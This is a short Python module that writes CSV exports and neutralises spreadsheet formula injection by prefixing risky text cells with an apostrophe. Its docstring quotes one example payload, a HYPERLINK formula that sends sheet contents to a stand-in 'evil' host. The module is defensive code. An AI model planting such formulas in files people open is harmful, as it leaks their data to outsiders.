"""CSV the project writes for people to open in a spreadsheet: formulas neutralised on the way out.

A text cell starting with `=`, `+`, `-` or `@` (or a tab or carriage return before one) is run as
a formula by Excel, LibreOffice and Google Sheets (CSV injection): a partner-typed answer such as
`=HYPERLINK("http://evil/?"&A1)` would exfiltrate the sheet. Such cells get a leading apostrophe,
which spreadsheets show as text. Only the export changes: the warehouse keeps the value as typed.
Numbers stay numbers (a negative amount is not text, so it is not touched).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: Any) -> Any:
    """The value as it may go into a CSV cell: text that would run as a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(path: Path, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> int:
    """Write rows as UTF-8 CSV (with BOM, so Excel reads the encoding) with every cell
    neutralised; returns the number of data rows."""
    count = 0
    with open(path, "w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow([neutralise_cell(h) for h in header])
        for row in rows:
            writer.writerow([neutralise_cell(cell) for cell in row])
            count += 1
    return count
